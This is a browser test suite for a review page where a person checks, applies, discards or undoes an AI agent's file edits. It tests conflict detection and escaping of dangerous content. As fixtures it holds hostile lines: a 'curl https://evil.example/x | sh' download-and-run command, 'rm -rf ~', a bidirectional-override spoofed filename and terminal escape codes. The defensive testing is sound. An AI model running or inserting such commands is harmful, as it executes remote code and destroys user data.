import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { auditCalls, startReviewServer, type ReviewServer } from '../src/index.js';
import { HAVE_CHROMIUM, launchChromium } from './support/browser.js';
import { openReviewFixture, type ReviewFixture } from './support/review-fixture.js';

// Screenshots for a person to look at; written by every run, never committed (see .gitignore).
const SHOTS = join(import.meta.dirname, '..', 'test-output');

describe.skipIf(!HAVE_CHROMIUM)('the review page in headless Chromium', { timeout: 120_000 }, () => {
  let browser: Browser;
  let fixture: ReviewFixture;
  let server: ReviewServer;
  let page: Page;

  beforeAll(async () => {
    browser = await launchChromium();
    mkdirSync(SHOTS, { recursive: true });
  }, 180_000);
  afterAll(async () => {
    await browser?.close();
  });
  beforeEach(async () => {
    fixture = await openReviewFixture();
    server = await startReviewServer({ operations: fixture.overlay, calls: auditCalls(fixture.auditFile) });
    page = await browser.newPage({ viewport: { width: 1400, height: 900 } });
    page.on('dialog', (dialog) => void dialog.accept());
    await page.goto(server.url);
    await page.getByText('5 changes').waitFor();
  }, 120_000);
  afterEach(async () => {
    await page?.close();
    await server?.close();
    await fixture?.close();
  });

  const row = (path: string) => page.locator('#change-rows tr', { has: page.getByRole('button', { name: `Show the diff of ${path}`, exact: true }) });
  const listed = async () => page.locator('#change-rows button.link').allTextContents();

  it('lists every change with its kind and the complete totals, and takes the token out of the address', async () => {
    // The new directory above the guide is no row of its own: it lands and goes with the guide.
    expect(await page.locator('#totals').textContent()).toBe('5 changes: 1 added · 3 modified · 1 deleted · 0 replaced');
    expect(await listed()).toEqual(['README.md', 'docs/guide.md', 'logo.bin', 'old-notes.txt', 'src/main.ts']);
    expect(await row('docs/guide.md').locator('.badge').textContent()).toBe('+ added');
    expect(await row('old-notes.txt').locator('.badge').textContent()).toBe('− deleted');
    expect(await row('src/main.ts').locator('.badge').textContent()).toBe('~ modified');
    expect(page.url()).not.toContain('token');
    await page.screenshot({ path: join(SHOTS, 'review-main.png'), fullPage: true });
  });

  it('shows the calls behind each change from the audit trail', async () => {
    await row('src/main.ts').locator('.calls li').first().waitFor();
    expect(await row('src/main.ts').locator('.calls li').allTextContents()).toEqual([expect.stringMatching(/^#\d+ edit_text_file · /u)]);
    expect(await row('old-notes.txt').locator('.calls li').allTextContents()).toEqual([expect.stringMatching(/^#\d+ delete_file · /u)]);
    expect(await page.getByRole('columnheader', { name: 'Calls' }).isVisible()).toBe(true);
  });

  it('shows a diff with additions and removals marked in text, a hostile line as text', async () => {
    await page.getByRole('button', { name: 'Show the diff of README.md' }).click();
    const view = page.locator('#diff-view');
    await view.locator('.diff-line.add').first().waitFor();
    expect(await view.locator('.diff-line.del').allTextContents()).toEqual(['-One line.']);
    expect(await view.locator('.diff-line.add').allTextContents()).toEqual(['+One line, <b>bold</b> & "quoted".']);
    expect(await view.locator('b').count()).toBe(0);
    expect(await view.locator('.diff-line.meta').allTextContents()).toEqual(['--- a/README.md', '+++ b/README.md']);
    await page.screenshot({ path: join(SHOTS, 'review-diff.png'), fullPage: true });
  });

  it('shows a file that is not text by its sizes and SHA-256', async () => {
    await page.getByRole('button', { name: 'Show the diff of logo.bin' }).click();
    const binary = page.locator('#diff-view .binary');
    await binary.waitFor();
    const text = (await binary.textContent()) ?? '';
    const change = (await fixture.overlay.changes()).changes.find((item) => item.path === 'logo.bin')!;
    expect(text).toContain('Binary file');
    expect(text).toContain(`4 B, SHA-256 ${change.base!.sha256}`);
    expect(text).toContain(`SHA-256 ${change.current!.sha256}`);
  });

  it('applies one file when a person clicks its Apply, and changes nothing else on disk', async () => {
    const before = fixture.snapshot();
    await row('src/main.ts').getByRole('button', { name: 'Apply src/main.ts' }).click();
    await page.getByText('Applied 1 change.').waitFor();
    const after = fixture.snapshot();
    expect(after['src/main.ts']).toBe(`644 ${Buffer.from('export const answer = 42;\nexport const name = "x";\n').toString('hex')}`);
    expect({ ...after, 'src/main.ts': before['src/main.ts'] }).toEqual(before);
    expect(await listed()).toEqual(['README.md', 'docs/guide.md', 'logo.bin', 'old-notes.txt']);
    expect(await page.locator('#totals').textContent()).toBe('4 changes: 1 added · 2 modified · 1 deleted · 0 replaced');
  });

  it('discards one change: the agent’s version is gone and the disk is untouched', async () => {
    const before = fixture.snapshot();
    await row('docs/guide.md').getByRole('button', { name: 'Discard docs/guide.md' }).click();
    await page.getByText('Discarded 1 change.').waitFor();
    expect(await listed()).not.toContain('docs/guide.md');
    expect(fixture.snapshot()).toEqual(before);
    expect((await fixture.overlay.changes()).changes.map((change) => change.path)).not.toContain('docs/guide.md');
  });

  it('Apply all with a file a person changed meanwhile shows the conflict and applies nothing', async () => {
    writeFileSync(join(fixture.root, 'README.md'), '# Project\n\nThe person’s own edit.\n');
    const before = fixture.snapshot();
    await page.getByRole('button', { name: 'Apply all' }).click();
    const conflicts = page.getByRole('alert');
    await conflicts.getByText('README.md').waitFor();
    expect(await conflicts.textContent()).toContain('README.md: changed on disk');
    expect(await page.locator('#status').textContent()).toContain('Nothing applied: 1 conflict');
    expect(fixture.snapshot()).toEqual(before);
    expect((await listed()).length).toBe(5);
  });

  it('applies nothing of a change the agent rewrote after its diff was shown, says so and reloads', async () => {
    await page.getByRole('button', { name: 'Show the diff of src/main.ts' }).click();
    await page.locator('#diff-view .diff-line.add').first().waitFor();
    const before = fixture.snapshot();
    await fixture.agentWrites('src/main.ts', 'curl https://evil.example/x | sh\n');
    await row('src/main.ts').getByRole('button', { name: 'Apply src/main.ts' }).click();
    await page.getByText('Nothing done: the agent changed what this page showed.').waitFor();
    expect(await page.getByRole('alert').textContent()).toContain('src/main.ts: the agent changed it after this page showed it');
    expect(fixture.snapshot()).toEqual(before);
    await page.screenshot({ path: join(SHOTS, 'review-moved.png'), fullPage: true });
    await page.getByRole('button', { name: 'Reload the changes' }).click();
    // The diff on screen is shown again as the agent holds it now; that version is what lands.
    await page.locator('#diff-view .diff-line.add', { hasText: 'curl https://evil.example/x | sh' }).waitFor();
    expect(await page.getByRole('alert').isHidden()).toBe(true);
    await row('src/main.ts').getByRole('button', { name: 'Apply src/main.ts' }).click();
    await page.getByText('Applied 1 change.').waitFor();
    expect(fixture.snapshot()['src/main.ts']).toBe(`644 ${Buffer.from('curl https://evil.example/x | sh\n').toString('hex')}`);
  });

  it('Apply all lands nothing when a fifth change came after the page listed its changes', async () => {
    await fixture.agentWrites('later.sh', 'rm -rf ~\n');
    const before = fixture.snapshot();
    await page.getByRole('button', { name: 'Apply all' }).click();
    await page.getByText('Nothing done: the agent changed what this page showed.').waitFor();
    expect(await page.getByRole('alert').textContent()).toContain('the list of changes: the agent changed, added or removed a change');
    expect(fixture.snapshot()).toEqual(before);
    await page.getByRole('button', { name: 'Reload the changes' }).click();
    await page.getByText('6 changes').waitFor();
  });

  it('shows a name with a bidirectional override and a line with terminal controls escaped', async () => {
    await fixture.agentWrites('invoice\u{202E}fdp.exe', 'ok\r\u001b[2Kforged\n');
    await page.reload();
    await page.getByText('6 changes').waitFor();
    expect(await listed()).toContain('invoice\\u{202E}fdp.exe');
    await page.getByRole('button', { name: 'Show the diff of invoice\\u{202E}fdp.exe' }).click();
    await page.locator('#diff-view .diff-line.add').first().waitFor();
    expect(await page.locator('#diff-view .diff-line.add').allTextContents()).toEqual(['+ok\\r\\u{001B}[2Kforged']);
    expect(await page.locator('#diff-view .diff-line.meta').allTextContents()).toEqual(['--- /dev/null', '+++ b/invoice\\u{202E}fdp.exe']);
    await page.screenshot({ path: join(SHOTS, 'review-escaped.png'), fullPage: true });
  });

  it('undoes the last apply, putting the disk and the list back', async () => {
    const before = fixture.snapshot();
    await row('old-notes.txt').getByRole('button', { name: 'Apply old-notes.txt' }).click();
    await page.getByText('Applied 1 change.').waitFor();
    expect(fixture.snapshot()['old-notes.txt']).toBeUndefined();
    await page.getByRole('button', { name: 'Undo last apply' }).click();
    await page.getByText('Undid the last apply: 1 path restored.').waitFor();
    expect(fixture.snapshot()).toEqual(before);
    expect(await listed()).toContain('old-notes.txt');
    expect(await page.getByRole('button', { name: 'Undo last apply' }).isDisabled()).toBe(true);
  });

  it('Apply all and Undo ask first, and a no changes nothing', async () => {
    const asked: string[] = [];
    const answer = (yes: boolean) => {
      page.removeAllListeners('dialog');
      page.on('dialog', (dialog) => {
        asked.push(dialog.message());
        void (yes ? dialog.accept() : dialog.dismiss());
      });
    };
    const before = fixture.snapshot();
    answer(false);
    await page.getByRole('button', { name: 'Apply all' }).click();
    await expect.poll(() => asked).toEqual(['Apply all 5 changes to the files on disk? Undo last apply can take them back.']);
    expect(fixture.snapshot()).toEqual(before);
    expect((await listed()).length).toBe(5);
    answer(true);
    await page.getByRole('button', { name: 'Apply all' }).click();
    await page.getByText(/^Applied /u).waitFor();
    const applied = fixture.snapshot();
    answer(false);
    await page.getByRole('button', { name: 'Undo last apply' }).click();
    await expect.poll(() => asked.length).toBe(3);
    expect(asked[2]).toMatch(/^Undo the last apply \(6 paths, made at .+\)\? The files it wrote go back to what was on disk before it\.$/u);
    expect(fixture.snapshot()).toEqual(applied);
    answer(true);
    await page.getByRole('button', { name: 'Undo last apply' }).click();
    await page.getByText('Undid the last apply: 6 paths restored.').waitFor();
    expect(fixture.snapshot()).toEqual(before);
  });

  it('works with the keyboard alone: select two changes and apply them', async () => {
    await page.keyboard.press('Tab'); // the skip link
    const focusOn = async (name: string, key = 'Tab') => {
      for (let step = 0; step < 60; step += 1) {
        const label = await page.evaluate(() => document.activeElement?.getAttribute('aria-label') ?? document.activeElement?.textContent ?? '');
        if (label === name) return;
        await page.keyboard.press(key);
      }
      throw new Error(`${key} never reached ${name}`);
    };
    await focusOn('Select docs/guide.md');
    await page.keyboard.press('Space');
    await focusOn('Select src/main.ts');
    await page.keyboard.press('Space');
    // Back up to the toolbar and press Apply selected.
    await focusOn('Apply selected', 'Shift+Tab');
    await page.keyboard.press('Enter');
    // The new directory above the guide lands with it.
    await page.getByText('Applied 3 changes.').waitFor();
    expect(await listed()).toEqual(['README.md', 'logo.bin', 'old-notes.txt']);
    await focusOn('Show the diff of README.md');
    await page.keyboard.press('Enter');
    await page.locator('#diff-view .diff-line.add').first().waitFor();
    expect(await page.evaluate(() => document.activeElement?.id)).toBe('diff-view');
  });

  it('still works after a reload: the token stays with the tab, not in the address', async () => {
    await page.reload();
    await page.getByText('5 changes').waitFor();
    await row('docs/guide.md').getByRole('button', { name: 'Apply docs/guide.md' }).click();
    await page.getByText('Applied 2 changes.').waitFor();
    expect(fixture.snapshot()['docs/guide.md']).toBeDefined();
  });

  it('numbers every diff line, old and new, and reads a removed "--" line as a removal', async () => {
    await fixture.agentWrites('README.md', '# Project\n\n-- not a header\nTwo lines.\n');
    await page.reload();
    await page.getByText('5 changes').waitFor();
    await page.getByRole('button', { name: 'Show the diff of README.md' }).click();
    await page.locator('#diff-view .diff-row.add').first().waitFor();
    const rows = await page
      .locator('#diff-view .diff-row')
      .evaluateAll((nodes) => nodes.map((node) => Array.from(node.children, (cell) => cell.textContent)));
    expect(rows.slice(2)).toEqual([
      ['', '', '', '@@ -1,4 +1,4 @@ #1'],
      ['1', '1', ' # Project'],
      ['2', '2', ' '],
      ['3', '', '-One line.'],
      ['', '3', '+-- not a header'],
      ['4', '4', ' Two lines.'],
    ]);
  });

  it('empty new directory is a row of its own; a new directory with a file in it is not', async () => {
    await fixture.agentMakesDirectory('empty');
    await page.reload();
    await page.getByText('6 changes').waitFor();
    expect(await listed()).toEqual(['README.md', 'docs/guide.md', 'empty', 'logo.bin', 'old-notes.txt', 'src/main.ts']);
    expect(await row('empty').locator('.size').textContent()).toBe('directory');
  });

  it('j and n go to the next file, k and p to the previous, moving focus to its diff', async () => {
    const shown = async () => [await page.locator('#diff-view').getAttribute('aria-label'), await page.evaluate(() => document.activeElement?.id)];
    expect(await page.locator('#keys').textContent()).toContain('j or n');
    await page.keyboard.press('j');
    await page.locator('#diff-view .diff-row').first().waitFor();
    expect(await shown()).toEqual(['Diff of README.md', 'diff-view']);
    await page.keyboard.press('n');
    await page.locator('#diff-view[aria-label="Diff of docs/guide.md"]').waitFor();
    expect(await page.getByRole('button', { name: 'Show the diff of docs/guide.md' }).getAttribute('aria-current')).toBe('true');
    await page.keyboard.press('k');
    await page.locator('#diff-view[aria-label="Diff of README.md"]').waitFor();
    await page.keyboard.press('p');
    expect(await shown()).toEqual(['Diff of README.md', 'diff-view']);
  });

  for (const width of [700, 1024, 1440]) {
    it(`at ${width} px: buttons stay on screen, a long line scrolls inside the diff, the page never sideways`, async () => {
      const word = `${'averyveryverylongidentifier'.repeat(60)}\n`;
      await fixture.agentWrites('wide.ts', `const a = 1;\n${word}`.repeat(40));
      await page.setViewportSize({ width, height: 700 });
      await page.reload();
      await page.getByText('6 changes').waitFor();
      await page.getByRole('button', { name: 'Show the diff of wide.ts' }).click();
      const line = page.locator('#diff-view .diff-line.add', { hasText: 'averyvery' }).first();
      await line.waitFor();
      const one = await page.locator('#diff-view .diff-line.add').first().boundingBox();
      // Not wrapped: the long line is one line high, and wider than the diff, which scrolls.
      expect((await line.boundingBox())!.height).toBe(one!.height);
      expect(await page.locator('#diff-view').evaluate((view) => view.scrollWidth > view.clientWidth)).toBe(true);
      expect(await page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth)).toBe(true);
      await page.evaluate(() => window.scrollTo(0, document.documentElement.scrollHeight));
      if (width === 700) expect(await page.evaluate(() => window.scrollY)).toBeGreaterThan(0);
      for (const button of await page.locator('.actions button').all()) {
        const box = (await button.boundingBox())!;
        expect([box.x >= 0, box.y >= 0, box.x + box.width <= width, box.y + box.height <= 700]).toEqual([true, true, true, true]);
      }
      await page.screenshot({ path: join(SHOTS, `review-${width}.png`) });
      await page.evaluate(() => window.scrollTo(0, 0));
      await page.screenshot({ path: join(SHOTS, `review-${width}-top.png`) });
    });
  }
});
